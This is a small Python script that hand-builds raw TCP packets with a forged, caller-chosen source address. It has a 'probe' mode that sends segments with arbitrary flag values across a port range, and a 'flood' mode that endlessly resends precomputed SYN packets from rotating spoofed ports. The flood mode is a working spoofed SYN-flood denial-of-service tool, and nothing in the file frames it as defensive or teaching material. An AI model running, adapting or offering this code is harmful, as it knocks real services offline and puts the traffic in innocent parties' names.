"""TCP segments as no socket would send them: with flags of the caller's choice, and in somebody else's name.

segments.py probe SOURCE DESTINATION PORTS FLAGS   one segment for each port and each flag octet, then the end
segments.py flood SOURCE DESTINATION PORTS         first segments from ever other ports, until it is ended
PORTS is FIRST-LAST or numbers with commas between them, FLAGS are numbers with commas between them.
"""

import itertools
import socket
import struct
import sys


def checksum(octets):
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, destination, source_port, port, flags):
    """A whole packet; the kernel fills in the checksum of an IPv4 header."""
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, destination)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, 1000, 2000, 5 << 4, flags, 8192, 0, 0)
    pseudo = ends + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + ends + tcp
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + ends + tcp


def main(what, source, destination, ports, flags="2"):
    first, *rest = ports.split("-")
    targets = range(int(first), int(rest[0]) + 1) if rest else [int(port) for port in ports.split(",")]
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = (destination, 0)
    if what == "probe":
        for place, (port, each) in enumerate(itertools.product(targets, flags.split(","))):
            raw.sendto(segment(source, destination, 20000 + place, port, int(each)), to)
        return
    # Of each target some hundred, so that sending is all that is done from here on.
    packets = [
        segment(source, destination, 20000 + (number * 7919) % 40000, port, 2)
        for number in range(max(1, 20000 // len(targets)))
        for port in targets
    ]
    print("ready", flush=True)
    for packet in itertools.cycle(packets):
        try:
            raw.sendto(packet, to)
        except OSError:
            pass


main(*sys.argv[1:])
